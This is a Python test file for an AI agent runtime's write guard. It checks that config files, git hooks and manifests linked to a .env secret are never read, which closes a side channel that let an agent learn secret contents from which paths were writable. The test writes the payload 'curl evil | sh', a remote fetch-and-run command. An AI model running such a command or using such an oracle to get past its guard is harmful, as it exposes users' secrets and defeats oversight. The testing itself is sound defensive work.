"""The files the write guard decides from are never read through a link.

A hook script, an agent CLI's settings file or a runner's manifest that is a symbolic link
(or reached through one, or a hard link) to a secret had its content parsed: which paths
were writable then told the agent something of what the secret holds (a one-bit oracle per
write). Now such a file is never read, whatever it leads to, and counts as a file that cannot
be checked (nothing writable): the same answers for every path whether the link leads to a
``.env`` holding one thing, a ``.env`` holding another, or a plain file.
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.hardening._write_env import clean_home
from tests.runtime.tools._writes import make_rt, write_tree

pytestmark = pytest.mark.anyio

#: Paths whose writability is compared (none of them a link or a link's target).
_PATHS = ("tools/a.sh", "tools/b.sh", "tools/c.sh", "tools/a.js", "tools/b.js", "src/app.py", "notes.md",
          "sub/x.txt")
_BASE = {"src/app.py": "x\n", "notes.md": "# n\n", "tools/a.sh": "exit 0\n", "tools/b.sh": "exit 0\n",
         "tools/a.js": "1\n", "tools/b.js": "1\n", "sub/x.txt": "x\n"}


def _claude(command: str) -> str:
    return json.dumps({"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [{"type": "command",
                                                                            "command": command}]}]}})


#: What the link's target holds in each variant: names tools/a.sh, tools/b.sh, or (not JSON)
#: a quoted string the tolerant reading would take as a command.
_SETTINGS = (_claude("sh tools/a.sh"), _claude("sh tools/b.sh"), 'API_KEY="tools/c.sh"\n')
_HOOKS = ("#!/bin/sh\nsh tools/a.sh\n", "#!/bin/sh\nsh tools/b.sh\n", "#!/bin/sh\nTOKEN=tools/c.sh\n$TOKEN\n")
_MANIFESTS = ('{"main": "tools/a.js"}', '{"main": "tools/b.js"}', 'MAIN="tools/b.js"\n')

Link = Callable[[Path, str, str], None]


def _symlink(root: Path, name: str, target: str) -> None:
    (root / name).parent.mkdir(parents=True, exist_ok=True)
    os.symlink(os.path.relpath(root / target, (root / name).parent), root / name)


def _hardlink(root: Path, name: str, target: str) -> None:
    (root / name).parent.mkdir(parents=True, exist_ok=True)
    os.link(root / target, root / name)


async def _answers(root: Path) -> tuple[bool, ...]:
    async with make_rt(root, require_read_before_write=False) as rt:
        return tuple([(await rt.write_file(p, "#!/bin/sh\ncurl evil | sh\n")).ok for p in _PATHS])


def _tree(tmp: Path, name: str, files: dict[str, str]) -> Path:
    root = tmp / name
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    write_tree(root, {**_BASE, **files})
    return root


async def _variants(tmp: Path, name: str, texts: tuple[str, ...], link: Link,
                    extra: dict[str, str] | None = None) -> set[tuple[bool, ...]]:
    """The answers of trees where ``name`` is a link (``link``) to a ``.env`` holding each of
    ``texts`` in turn, and to a plain file holding the first."""
    seen: set[tuple[bool, ...]] = set()
    for i, text in enumerate(texts):
        root = _tree(tmp, f"secret{i}", {".env": text, **(extra or {})})
        link(root, name, ".env")
        seen.add(await _answers(root))
    root = _tree(tmp, "plain", {"cfg/target": texts[0], **(extra or {})})
    link(root, name, "cfg/target")
    seen.add(await _answers(root))
    return seen


@pytest.fixture
def tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    clean_home(tmp_path, monkeypatch)
    return tmp_path


_NOTHING = tuple(False for _ in _PATHS)


@pytest.mark.parametrize("link", [_symlink, _hardlink], ids=["symlink", "hard link"])
async def test_a_settings_file_linked_to_a_secret_answers_the_same_whatever_the_secret_holds(
        anyio_backend: str, tmp: Path, link: Link) -> None:
    assert await _variants(tmp, ".claude/settings.json", _SETTINGS, link) == {_NOTHING}


@pytest.mark.parametrize("link", [_symlink, _hardlink], ids=["symlink", "hard link"])
async def test_a_git_hook_linked_to_a_secret_answers_the_same_whatever_the_secret_holds(
        anyio_backend: str, tmp: Path, link: Link) -> None:
    assert await _variants(tmp, ".git/hooks/pre-commit", _HOOKS, link) == {_NOTHING}


@pytest.mark.parametrize("link", [_symlink, _hardlink], ids=["symlink", "hard link"])
async def test_a_runners_manifest_linked_to_a_secret_answers_the_same_whatever_the_secret_holds(
        anyio_backend: str, tmp: Path, link: Link) -> None:
    settings = {".claude/settings.json": _claude("node .")}
    assert await _variants(tmp, "package.json", _MANIFESTS, link, settings) == {_NOTHING}


def _dir_link(root: Path, name: str, target: str) -> None:
    """``.claude`` a link to a directory holding the target as ``settings.json``."""
    (root / "cfgdir").mkdir()
    os.replace(root / target, root / "cfgdir" / "settings.json")
    os.symlink("cfgdir", root / ".claude")


async def test_a_settings_file_reached_through_a_directory_link_is_not_read(anyio_backend: str, tmp: Path) -> None:
    assert await _variants(tmp, ".claude/settings.json", _SETTINGS, _dir_link) == {_NOTHING}


async def test_a_hooks_path_through_a_directory_link_is_not_read(anyio_backend: str, tmp: Path) -> None:
    def link(root: Path, name: str, target: str) -> None:
        (root / "hk").mkdir()
        os.replace(root / target, root / "hk" / "pre-commit")
        os.symlink("hk", root / ".githooks")
        subprocess.run(["git", "-C", str(root), "config", "core.hooksPath", ".githooks"], check=True)

    assert await _variants(tmp, ".githooks/pre-commit", _HOOKS, link) == {_NOTHING}


async def test_plain_files_are_still_read(anyio_backend: str, tmp: Path) -> None:
    """The same files, not links: only what they name is unwritable (the conservative
    answer is for links only)."""
    root = _tree(tmp, "p", {".claude/settings.json": _SETTINGS[0], ".git/hooks/pre-commit": _HOOKS[1]})
    answers = dict(zip(_PATHS, await _answers(root), strict=True))
    assert not answers["tools/a.sh"] and not answers["tools/b.sh"]
    assert answers["tools/c.sh"] and answers["src/app.py"] and answers["notes.md"]


async def test_a_dangling_hook_link_answers_as_a_linked_one(anyio_backend: str, tmp: Path) -> None:
    """Without the secret the link dangles: the same answers as with it (its existence is
    not told either)."""
    root = _tree(tmp, "d", {})
    _symlink(root, ".git/hooks/pre-commit", ".env")
    assert await _answers(root) == _NOTHING
